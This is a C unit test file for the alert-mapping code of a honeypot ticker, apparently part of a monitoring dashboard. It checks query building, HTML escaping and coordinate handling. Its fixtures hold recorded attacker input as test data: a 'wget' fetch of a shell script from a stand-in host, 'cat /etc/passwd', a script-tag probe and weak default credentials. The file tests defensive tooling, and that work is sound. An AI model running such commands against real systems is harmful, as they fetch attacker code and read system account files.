/* test_h_alerts.c: unit tests of app/h_alerts.c: the ticker's query, the requestString rules, hit mapping. */
#include <stdio.h>

#include "h_alerts.h"
#include "unit.h"

/* The four alerts behind the original ticker's documented example, as the search engine returns them. */
/* clang-format off */
#define HIT(id, source) "{\"_index\":\"ews-2024.05.01-1\",\"_id\":\"" id "\",\"_score\":null,\"_source\":" source "}"
#define EXAMPLE_REPLY                                                                                             \
    "{\"took\":4,\"timed_out\":false,\"hits\":{\"total\":{\"value\":4,\"relation\":\"eq\"},\"hits\":["          \
    HIT("a1b2c3d4e5f60718293a4b5c6d7e8f90",                                                                      \
        "{\"createTime\":\"2024-05-01 10:00:00\",\"peerType\":\"Webpage\",\"country\":\"NL\","                   \
        "\"originalRequestString\":\"/wp-login.php?x=%3Cscript%3E\",\"location\":\"52.3824 , 4.8995\","          \
        "\"targetCountry\":\"DE\",\"countryName\":\"Netherlands\",\"locationDestination\":\"51.2993 , 9.491\","  \
        "\"recievedTime\":\"2024-05-01 10:00:03\",\"username\":\"\",\"password\":\"\",\"login\":\"\","           \
        "\"clientDomain\":true}") ","                                                                             \
    HIT("0f1e2d3c4b5a69788796a5b4c3d2e1f0",                                                                      \
        "{\"createTime\":\"2024-05-01 10:00:00\",\"peerType\":\"SSH/console(cowrie)\",\"country\":\"CN\","       \
        "\"originalRequestString\":\"\\nuname -a\\nwget http://x.example/a.sh\","                               \
        "\"location\":\"34.7725 , 113.7266\",\"targetCountry\":\"DE\",\"countryName\":\"China\","                \
        "\"locationDestination\":\"51.2993 , 9.491\",\"recievedTime\":\"2024-05-01 10:00:01\","                 \
        "\"username\":\"root\",\"password\":\"123456\",\"login\":\"Success\",\"clientDomain\":true}") ","        \
    HIT("11112222333344445555666677778888",                                                                      \
        "{\"createTime\":\"2024-05-01 09:59:57\",\"peerType\":\"Passwords(heralding)\",\"country\":\"US\","      \
        "\"originalRequestString\":\"\",\"location\":\"37.751 , -97.822\",\"targetCountry\":\"DE\","             \
        "\"countryName\":\"United States\",\"locationDestination\":\"0.0 , 0.0\","                               \
        "\"recievedTime\":\"2024-05-01 09:59:58\",\"username\":\"admin\",\"password\":\"pa%20ss\","              \
        "\"login\":\"\",\"clientDomain\":false}") ","                                                             \
    HIT("9999aaaabbbbccccddddeeeeffff0000",                                                                      \
        "{\"createTime\":\"2024-05-01 09:59:30\",\"peerType\":\"Network(honeytrap)\",\"country\":\"PIR\","       \
        "\"originalRequestString\":\"Attack on port 445/tcp\",\"location\":\"0.0 , 0.0\","                       \
        "\"targetCountry\":\"DE\",\"countryName\":\"IANA Private IP Range\","                                    \
        "\"locationDestination\":\"51.2993 , 9.491\",\"recievedTime\":\"2024-05-01 09:59:31\","                 \
        "\"username\":null,\"password\":null,\"login\":null,\"clientDomain\":true}")                             \
    "]}}"

/* The example's expected objects, compact with sorted keys. */
#define EXAMPLE_ALERTS                                                                                           \
    "{\"analyzerType\":\"Webpage\",\"clientDomain\":true,\"country\":\"NL\",\"countryName\":\"Netherlands\","   \
    "\"dateCreated\":\"2024-05-01 10:00:03\",\"destLat\":\"51.2993\",\"destLng\":\"9.491\","                    \
    "\"id\":\"a1b2c3d4e5f60718293a4b5c6d7e8f90\",\"requestString\":\"/wp-login.php?x=&lt;script&gt;\","         \
    "\"sourceLat\":\"52.3824\",\"sourceLng\":\"4.8995\",\"targetCountry\":\"DE\"},"                             \
    "{\"analyzerType\":\"SSH/console(cowrie)\",\"clientDomain\":true,\"country\":\"CN\",\"countryName\":\"China\"," \
    "\"dateCreated\":\"2024-05-01 10:00:01\",\"destLat\":\"51.2993\",\"destLng\":\"9.491\","                    \
    "\"id\":\"0f1e2d3c4b5a69788796a5b4c3d2e1f0\",\"requestString\":\"uname -a; wget http://x.example/a.sh\","   \
    "\"sourceLat\":\"34.7725\",\"sourceLng\":\"113.7266\",\"targetCountry\":\"DE\"},"                           \
    "{\"analyzerType\":\"Passwords(heralding)\",\"clientDomain\":false,\"country\":\"US\","                     \
    "\"countryName\":\"United States\",\"dateCreated\":\"2024-05-01 09:59:58\",\"destLat\":\"50.708021\","      \
    "\"destLng\":\"7.129191\",\"id\":\"11112222333344445555666677778888\","                                     \
    "\"requestString\":\"Username: &quot;admin&quot; | Password: &quot;pa ss&quot;\","                         \
    "\"sourceLat\":\"37.751\",\"sourceLng\":\"-97.822\",\"targetCountry\":\"DE\"},"                             \
    "{\"analyzerType\":\"Network(honeytrap)\",\"clientDomain\":true,\"country\":\"PIR\","                       \
    "\"countryName\":\"IANA Private IP Range\",\"dateCreated\":\"2024-05-01 09:59:31\",\"destLat\":\"51.2993\"," \
    "\"destLng\":\"9.491\",\"id\":\"9999aaaabbbbccccddddeeeeffff0000\","                                        \
    "\"requestString\":\"Attack on port 445/tcp\",\"sourceLat\":\"50.708021\",\"sourceLng\":\"7.129191\","      \
    "\"targetCountry\":\"DE\"}"
/* clang-format on */

static const struct request as_json = {.format = FORMAT_JSON};

/* Runs alerts_json_map on the recorded reply text; the body goes to out. */
static peba_err mapped(const char *reply_text, struct buf *out)
{
    return unit_map(alerts_json_map, reply_text, &as_json, out);
}

#define assert_mapped(reply_text, want) assert_maps_to(alerts_json_map, reply_text, &as_json, want)

/* The requestString built from one _source given as JSON text. */
#define assert_request_string(source_text, want)          \
    do {                                                  \
        cJSON *source_ = unit_json(source_text);          \
        char *got_ = alerts_json_request_string(source_); \
        assert_text_is(got_, want);                       \
        free(got_);                                       \
        cJSON_Delete(source_);                            \
    } while (0)

/* One hit with the given _source members (JSON text without braces) mapped to its single alert object. */
#define assert_one_alert(members, want_alert)                                          \
    assert_mapped("{\"hits\":{\"hits\":[{\"_id\":\"i\",\"_source\":{" members "}}]}}", \
                  "{\"alerts\":[" want_alert "]}\n")

#define COWRIE "\"peerType\":\"SSH/console(cowrie)\""
#define HERALDING "\"peerType\":\"Passwords(heralding)\""

#define TICKER_TAIL                                                                                          \
    "\"sort\":{\"recievedTime\":{\"order\":\"desc\"}},\"size\":35,\"_source\":[\"createTime\",\"peerType\"," \
    "\"country\",\"originalRequestString\",\"location\",\"targetCountry\",\"countryName\","                  \
    "\"locationDestination\",\"recievedTime\",\"username\",\"password\",\"login\",\"clientDomain\"]}"

START_TEST(the_ticker_query_asks_for_the_35_newest_in_the_domain)
{
    cJSON *q;

    q = alerts_json_query(DOMAIN_COMMUNITY);
    assert_cjson_is(q, "{\"query\":{\"terms\":{\"clientDomain\":[true]}}," TICKER_TAIL);
    cJSON_Delete(q);
    q = alerts_json_query(DOMAIN_PRIVATE);
    assert_cjson_is(q, "{\"query\":{\"terms\":{\"clientDomain\":[false]}}," TICKER_TAIL);
    cJSON_Delete(q);
    q = alerts_json_query(DOMAIN_BOTH);
    assert_cjson_is(q, "{\"query\":{\"terms\":{\"clientDomain\":[true,false]}}," TICKER_TAIL);
    cJSON_Delete(q);
}
END_TEST

START_TEST(the_spec_example_maps_byte_for_byte)
{
    assert_mapped(EXAMPLE_REPLY, "{\"alerts\":[" EXAMPLE_ALERTS "]}\n");
}
END_TEST

START_TEST(no_hits_give_an_empty_list)
{
    assert_mapped("{\"took\":0,\"hits\":{\"total\":{\"value\":0,\"relation\":\"eq\"},\"hits\":[]}}",
                  "{\"alerts\":[]}\n");
}
END_TEST

START_TEST(cowrie_input_drops_its_leading_newline)
{
    assert_request_string("{" COWRIE ",\"originalRequestString\":\"\\nls -la\\ncat /etc/passwd\"}",
                          "ls -la; cat /etc/passwd");
    assert_request_string("{" COWRIE ",\"originalRequestString\":\"\\necho '<x>' && id\"}",
                          "echo &#x27;&lt;x&gt;&#x27; &amp;&amp; id");
    assert_request_string("{" COWRIE ",\"originalRequestString\":\"\\ncurl%20x+y\"}", "curl%20x+y");
}
END_TEST

START_TEST(cowrie_input_without_a_leading_newline_loses_two_characters)
{
    assert_request_string("{" COWRIE ",\"originalRequestString\":\"ls\\npwd\"}", "; pwd");
    assert_request_string("{" COWRIE ",\"originalRequestString\":\"uname\"}", "ame");
    assert_request_string("{" COWRIE ",\"originalRequestString\":\"\\u00e4\\u00f6\\u00fc\"}", "\xc3\xbc");
    assert_request_string("{" COWRIE ",\"originalRequestString\":\"x\"}", "");
}
END_TEST

START_TEST(empty_cowrie_input_shows_the_credentials_and_login_status)
{
    assert_request_string("{" COWRIE
                          ",\"originalRequestString\":\"\",\"username\":\"root\",\"password\":\"123456\","
                          "\"login\":\"Success\"}",
                          "Username: &quot;root&quot; | Password: &quot;123456&quot; | Status: Success");
    assert_request_string("{" COWRIE
                          ",\"originalRequestString\":\"\",\"username\":\"root\",\"password\":\"x\","
                          "\"login\":null}",
                          "Username: &quot;root&quot; | Password: &quot;x&quot;");
    assert_request_string("{" COWRIE
                          ",\"originalRequestString\":\"\",\"username\":\"root\",\"password\":\"x\","
                          "\"login\":\"\"}",
                          "Username: &quot;root&quot; | Password: &quot;x&quot; | Status: ");
}
END_TEST

START_TEST(heralding_credentials_never_show_a_status)
{
    assert_request_string("{" HERALDING
                          ",\"originalRequestString\":\"\",\"username\":\"admin\",\"password\":\"pa%20ss\","
                          "\"login\":\"Success\"}",
                          "Username: &quot;admin&quot; | Password: &quot;pa ss&quot;");
}
END_TEST

START_TEST(a_null_credential_is_shown_as_none)
{
    assert_request_string("{" HERALDING
                          ",\"originalRequestString\":\"\",\"username\":null,\"password\":\"x\"}",
                          "Username: &lt;none&gt; | Password: &quot;x&quot;");
    assert_request_string("{" HERALDING
                          ",\"originalRequestString\":\"\",\"username\":\"u\",\"password\":null}",
                          "Username: &quot;u&quot; | Password: &lt;none&gt;");
}
END_TEST

START_TEST(credentials_are_percent_decoded_then_escaped)
{
    assert_request_string("{" HERALDING ",\"originalRequestString\":\"\",\"username\":\"r%C3%B6ot%27\","
                          "\"password\":\"a+b%26%3C\"}",
                          "Username: &quot;r\xc3\xb6ot&#x27;&quot; | Password: &quot;a+b&amp;&lt;&quot;");
}
END_TEST

START_TEST(other_requests_are_percent_decoded_then_html_escaped)
{
    assert_request_string(
        "{\"peerType\":\"Webpage\",\"originalRequestString\":\"/a%20b?q=%3Cx%3E&y='1'+\\\"2\\\"\"}",
        "/a b?q=&lt;x&gt;&amp;y=&#x27;1&#x27;+&quot;2&quot;");
    assert_request_string("{\"peerType\":\"Webpage\",\"originalRequestString\":\"100%25 %zz %\"}",
                          "100% %zz %");
    assert_request_string("{" HERALDING ",\"originalRequestString\":\"GET%20/\"}", "GET /");
    assert_request_string("{\"originalRequestString\":\"Attack on port 80/tcp\"}", "Attack on port 80/tcp");
}
END_TEST

START_TEST(zero_coordinates_are_shown_at_bonn)
{
    assert_one_alert(
        "\"location\":\"0.0 , 0.0\",\"locationDestination\":\"0.0 , 5.0\"",
        "{\"analyzerType\":\"\",\"clientDomain\":false,\"country\":\"\",\"countryName\":\"\","
        "\"dateCreated\":\"\",\"destLat\":\"0.0\",\"destLng\":\"5.0\",\"id\":\"i\",\"requestString\":\"\","
        "\"sourceLat\":\"50.708021\",\"sourceLng\":\"7.129191\",\"targetCountry\":\"\"}");
}
END_TEST

START_TEST(a_location_without_the_separator_gives_empty_coordinates)
{
    assert_one_alert(
        "\"location\":\"52.3824,4.8995\",\"locationDestination\":\"51.2993 ,9.491\"",
        "{\"analyzerType\":\"\",\"clientDomain\":false,\"country\":\"\",\"countryName\":\"\","
        "\"dateCreated\":\"\",\"destLat\":\"\",\"destLng\":\"\",\"id\":\"i\",\"requestString\":\"\","
        "\"sourceLat\":\"\",\"sourceLng\":\"\",\"targetCountry\":\"\"}");
}
END_TEST

START_TEST(missing_or_mistyped_fields_become_empty_strings)
{
    assert_one_alert(
        COWRIE ",\"location\":7,\"country\":null,\"clientDomain\":\"true\"",
        "{\"analyzerType\":\"SSH/console(cowrie)\",\"clientDomain\":false,\"country\":\"\","
        "\"countryName\":\"\",\"dateCreated\":\"\",\"destLat\":\"\",\"destLng\":\"\",\"id\":\"i\","
        "\"requestString\":\"Username: &lt;none&gt; | Password: &lt;none&gt;\",\"sourceLat\":\"\","
        "\"sourceLng\":\"\",\"targetCountry\":\"\"}");
    assert_mapped(
        "{\"hits\":{\"hits\":[{}]}}",
        "{\"alerts\":[{\"analyzerType\":\"\",\"clientDomain\":false,\"country\":\"\",\"countryName\":\"\","
        "\"dateCreated\":\"\",\"destLat\":\"\",\"destLng\":\"\",\"id\":\"\",\"requestString\":\"\","
        "\"sourceLat\":\"\",\"sourceLng\":\"\",\"targetCountry\":\"\"}]}\n");
}
END_TEST

START_TEST(invalid_utf8_after_decoding_becomes_the_replacement_escape)
{
    assert_one_alert("\"originalRequestString\":\"/%FF%C3\\u00e9\"",
                     "{\"analyzerType\":\"\",\"clientDomain\":false,\"country\":\"\",\"countryName\":\"\","
                     "\"dateCreated\":\"\",\"destLat\":\"\",\"destLng\":\"\",\"id\":\"i\","
                     "\"requestString\":\"/\\ufffd\\ufffd\\u00e9\",\"sourceLat\":\"\",\"sourceLng\":\"\","
                     "\"targetCountry\":\"\"}");
}
END_TEST

START_TEST(a_reply_without_hits_is_a_backend_error)
{
    struct buf out;

    ck_assert_int_eq(mapped("{\"error\":\"index_not_found_exception\"}", &out), PEBA_E_BACKEND);
    buf_free(&out);
    ck_assert_int_eq(mapped("{\"hits\":{\"hits\":{}}}", &out), PEBA_E_BACKEND);
    buf_free(&out);
}
END_TEST

START_TEST(an_over_long_coordinate_is_dropped)
{
    char source[512];
    char lat[200];
    cJSON *reply;
    struct buf out;
    static struct request req = {.format = FORMAT_JSON};

    memset(lat, '1', sizeof lat - 1);
    lat[sizeof lat - 1] = '\0';
    snprintf(source, sizeof source, "{\"hits\":{\"hits\":[{\"_source\":{\"location\":\"%s , 2.0\"}}]}}", lat);
    reply = unit_json(source);
    buf_init(&out, 0);
    ck_assert_int_eq(alerts_json_map(reply, &req, &out), PEBA_OK);
    ck_assert_ptr_nonnull(strstr(out.data, "\"sourceLat\":\"\",\"sourceLng\":\"\""));
    buf_free(&out);
    cJSON_Delete(reply);
}
END_TEST

int main(void)
{
    Suite *s = suite_create("h_alerts");
    TCase *core = unit_case(s, "Core");
    TCase *limits = unit_case(s, "Limits");

    tcase_add_test(core, the_ticker_query_asks_for_the_35_newest_in_the_domain);
    tcase_add_test(core, the_spec_example_maps_byte_for_byte);
    tcase_add_test(core, no_hits_give_an_empty_list);
    tcase_add_test(core, cowrie_input_drops_its_leading_newline);
    tcase_add_test(core, cowrie_input_without_a_leading_newline_loses_two_characters);
    tcase_add_test(core, empty_cowrie_input_shows_the_credentials_and_login_status);
    tcase_add_test(core, heralding_credentials_never_show_a_status);
    tcase_add_test(core, a_null_credential_is_shown_as_none);
    tcase_add_test(core, credentials_are_percent_decoded_then_escaped);
    tcase_add_test(core, other_requests_are_percent_decoded_then_html_escaped);
    tcase_add_test(core, zero_coordinates_are_shown_at_bonn);
    tcase_add_test(core, a_location_without_the_separator_gives_empty_coordinates);
    tcase_add_test(limits, missing_or_mistyped_fields_become_empty_strings);
    tcase_add_test(limits, invalid_utf8_after_decoding_becomes_the_replacement_escape);
    tcase_add_test(limits, a_reply_without_hits_is_a_backend_error);
    tcase_add_test(limits, an_over_long_coordinate_is_dropped);
    return unit_run(s);
}
